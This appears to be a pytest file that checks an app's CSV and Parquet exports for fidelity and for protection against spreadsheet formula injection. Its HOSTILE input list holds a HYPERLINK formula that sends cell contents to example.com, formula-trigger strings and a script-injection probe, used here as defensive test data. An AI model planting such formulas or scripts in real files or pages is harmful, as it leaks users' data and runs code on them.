"""The table of chosen images: what comes back out of CSV and Parquet, whatever the names hold."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import numpy as np
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.export import COLUMNS, as_csv, as_parquet, harmless
from hypuml.gallery import Gallery
from tests.support.app_support import small_garden

HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1,"look")',
    "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "\u00a0=1", "＝1+1",
    "'tis", "''", "a,b;c", 'say "no"', '"', "two\nlines", "two\r\nlines", "", " ",
    "Rosa › canina", "バラ科", "роза", "Nuñez", "🌹", "ورد", "a\x00b", "<script>alert(1)</script>",
]  # fmt: skip
ACTIVE = set("=+-@\t\r\n＝＋－＠")


def made_up(texts: list[str]) -> SimpleNamespace:
    """A gallery of which only the columns exist; every text of it is one of ``texts``."""
    n = len(texts)
    rng = np.random.default_rng(0)
    turned = [texts[(i + 1) % n] for i in range(n)]
    gallery = SimpleNamespace(
        ids=texts,
        images=turned,
        labels=texts,
        paths=[(turned[i], texts[i])[i % 2 :] for i in range(n)],
        splits=["unseen", "seen"] * (n // 2) + ["unseen"] * (n % 2),
        uncertainty=rng.random(n, dtype=np.float32),
        radius=(5 * rng.random(n)).astype(np.float32),
        xy=rng.uniform(-1, 1, (n, 2)).astype(np.float32),
        outside=rng.random(n) > 0.5,
    )
    return type("Columns", (SimpleNamespace,), {"__len__": lambda self: n})(**vars(gallery))


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def original(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def test_csv_gives_every_text_and_number_back_in_the_order_asked():
    gallery = made_up(HOSTILE)
    rows = np.random.default_rng(1).permutation(len(HOSTILE))
    table = cells(as_csv(gallery, rows))
    assert list(table[0]) == list(COLUMNS)
    assert [int(line["row"]) for line in table] == rows.tolist()
    for line, row in zip(table, rows, strict=True):
        assert original(line["id"]) == gallery.ids[row]
        assert original(line["image"]) == gallery.images[row]
        assert original(line["label"]) == gallery.labels[row]
        assert original(line["taxonomy"]) == " › ".join(gallery.paths[row])
        assert line["split"] == gallery.splits[row]
        reals = [np.float32(line[name]) for name in ("uncertainty", "radius", "x", "y")]
        assert reals == [gallery.uncertainty[row], gallery.radius[row], *gallery.xy[row]]


def test_no_text_of_the_csv_is_a_formula():
    for line in cells(as_csv(made_up(HOSTILE), np.arange(len(HOSTILE)))):
        for name in ("id", "image", "label", "taxonomy", "split"):
            assert line[name].lstrip(" \u00a0")[:1] not in ACTIVE
            assert line[name][:1] not in ACTIVE


@given(st.text(max_size=6))
def test_harmless_can_be_undone_and_leaves_ordinary_names_alone(text):
    assert original(harmless(text)) == text
    assert harmless(text).lstrip(" \u00a0")[:1] not in ACTIVE
    if text[:1].isalnum():
        assert harmless(text) == text


def test_what_is_harmless_is_not_marked():
    for text in ("Rosa canina", "g0-s004-i036", "a=b", "1-2", "(no class)", "", "folder/=x.jpg"):
        assert harmless(text) == text
    for text in ("=1", "-2", "'tis", " +1"):
        assert harmless(text) == f"'{text}"


def test_the_csv_is_what_spreadsheets_and_programs_expect():
    data = as_csv(made_up(["Nuñez", "b\nc"]), np.array([0, 1]))
    assert data.startswith(b"\xef\xbb\xbfrow,id,image,label,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 3
    assert b'"b\nc"' in data


def test_pandas_reads_the_csv_without_being_told_anything():
    pandas = pytest.importorskip("pandas")
    texts = [text for text in HOSTILE if "\x00" not in text and text.strip()]
    gallery = made_up(texts)
    table = pandas.read_csv(
        io.BytesIO(as_csv(gallery, np.arange(len(texts)))), keep_default_na=False
    )
    assert list(table.columns) == list(COLUMNS)
    assert table["row"].tolist() == list(range(len(texts)))
    assert [original(text) for text in table["label"]] == texts
    np.testing.assert_array_equal(table["x"].astype(np.float32), gallery.xy[:, 0])


def test_parquet_is_faithful():
    gallery = made_up(HOSTILE)
    rows = np.random.default_rng(2).permutation(len(HOSTILE))[:20]
    table = pq.ParquetFile(io.BytesIO(as_parquet(gallery, rows))).read()
    assert table.column_names == list(COLUMNS)
    kinds = ["int64", *["string"] * 3, "list<element: string>", "string", *["float"] * 4, "bool"]
    assert [str(kind) for kind in table.schema.types] == kinds
    found = table.to_pydict()
    assert found["row"] == rows.tolist()
    assert found["id"] == [gallery.ids[row] for row in rows]
    assert found["image"] == [gallery.images[row] for row in rows]
    assert found["label"] == [gallery.labels[row] for row in rows]
    assert [tuple(path) for path in found["taxonomy"]] == [gallery.paths[row] for row in rows]
    assert found["split"] == [gallery.splits[row] for row in rows]
    np.testing.assert_array_equal(found["uncertainty"], gallery.uncertainty[rows])
    np.testing.assert_array_equal(found["radius"], gallery.radius[rows])
    np.testing.assert_array_equal(np.stack([found["x"], found["y"]], 1), gallery.xy[rows])
    assert found["outside"] == gallery.outside[rows].tolist()
    table.validate(full=True)


def test_both_say_of_a_real_gallery_what_it_has():
    gallery = Gallery.open(small_garden())
    rows = np.array([7, 3, 119, 0])
    lines = cells(as_csv(gallery, rows))
    stored = pq.ParquetFile(gallery.folder / "items.parquet").read().take(rows).to_pydict()
    told = pq.ParquetFile(io.BytesIO(as_parquet(gallery, rows))).read().to_pydict()
    for name in ("id", "image", "taxonomy", "split", "uncertainty"):
        assert told[name] == stored[name]
    assert [line["label"] for line in lines] == told["label"] == [p[-1] for p in told["taxonomy"]]
    assert [line["taxonomy"] for line in lines] == [" › ".join(p) for p in told["taxonomy"]]
    np.testing.assert_array_equal(told["radius"], gallery.radius[rows])


@pytest.mark.parametrize("make", [as_csv, as_parquet])
def test_nothing_chosen_is_a_table_without_lines(make):
    data = make(made_up(HOSTILE), np.zeros(0, np.int64))
    if make is as_csv:
        assert cells(data) == []
        assert data.decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"
    else:
        table = pq.ParquetFile(io.BytesIO(data)).read()
        assert (table.num_rows, table.column_names) == (0, list(COLUMNS))


@pytest.mark.parametrize("make", [as_csv, as_parquet])
@pytest.mark.parametrize("row", [-1, 3])
def test_a_row_that_does_not_exist_is_refused(make, row):
    with pytest.raises(ValueError, match=rf"row {row} is not in this gallery of 3 images"):
        make(made_up(["a", "b", "c"]), np.array([0, row]))
